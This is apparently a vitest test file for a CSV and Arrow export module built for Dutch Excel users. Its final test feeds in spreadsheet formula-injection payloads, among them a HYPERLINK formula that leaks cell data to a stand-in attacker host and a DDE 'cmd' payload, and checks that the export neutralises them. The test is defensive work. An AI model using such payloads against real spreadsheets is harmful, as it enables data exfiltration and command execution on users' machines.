import { describe, expect, it } from 'vitest';
import { tableFromIPC } from 'apache-arrow';
import { toArrow, toCsv } from './export';
import type { QueryResult } from './db';

const result: QueryResult = {
	columns: [
		{ name: 'teldatum', kind: 'date' },
		{ name: 'deelname_sbo_pct', kind: 'number' },
		{ name: 'kring', kind: 'string' }
	],
	rows: [
		{ teldatum: '2024-10-01', deelname_sbo_pct: 2.26, kring: 'Kring "Noord"; oud' },
		{ teldatum: '2025-10-01', deelname_sbo_pct: null, kring: 'Kring Zuid' }
	]
};

describe('export formats', () => {
	it('writes CSV for Dutch Excel: ; separator, decimal comma, quoted text, BOM', () => {
		expect(toCsv(result)).toBe('\uFEFFteldatum;deelname_sbo_pct;kring\r\n2024-10-01;2,26;"Kring ""Noord""; oud"\r\n2025-10-01;;Kring Zuid\r\n');
	});
	it('writes Arrow IPC that reads back to the same values', () => {
		const t = tableFromIPC(toArrow(result));
		expect(t.numRows).toBe(2);
		expect(t.getChild('deelname_sbo_pct')?.get(0)).toBe(2.26);
		expect(t.getChild('deelname_sbo_pct')?.get(1)).toBeNull();
		expect(t.getChild('teldatum')?.get(1)).toBe('2025-10-01');
	});
	it('writes a suppressed count as "<5" in CSV and as null in Arrow', () => {
		const hidden: QueryResult = { columns: [{ name: 'leerlingen_so', kind: 'number' }], rows: [{ leerlingen_so: '<5' }, { leerlingen_so: 12 }] };
		expect(toCsv(hidden)).toBe('\uFEFFleerlingen_so\r\n<5\r\n12\r\n');
		const t = tableFromIPC(toArrow(hidden));
		expect(t.getChild('leerlingen_so')?.get(0)).toBeNull();
		expect(t.getChild('leerlingen_so')?.get(1)).toBe(12);
	});
	it('neutralises text that Excel would run as a formula, and leaves numbers alone (-3 stays -3)', () => {
		const names: QueryResult = {
			columns: [
				{ name: 'naam', kind: 'string' },
				{ name: 'verschil', kind: 'number' }
			],
			rows: [
				{ naam: '=HYPERLINK("https://aanvaller.example/?"&A1,"Klik")', verschil: -3 },
				{ naam: "+cmd|' /C calc'!A0", verschil: -1.5 },
				{ naam: '@SUM(1+1)*cmd', verschil: 0 },
				{ naam: '-2+3', verschil: 2 },
				{ naam: '\tTab', verschil: null },
				{ naam: '\rCR', verschil: null },
				{ naam: 'De Regenboog - locatie 2', verschil: 1 }
			]
		};
		expect(toCsv(names).split('\r\n').slice(1, -1)).toEqual([
			`"'=HYPERLINK(""https://aanvaller.example/?""&A1,""Klik"")";-3`,
			`'+cmd|' /C calc'!A0;-1,5`,
			`'@SUM(1+1)*cmd;0`,
			`'-2+3;2`,
			`'\tTab;`,
			`"'\rCR";`,
			`De Regenboog - locatie 2;1`
		]);
	});
});
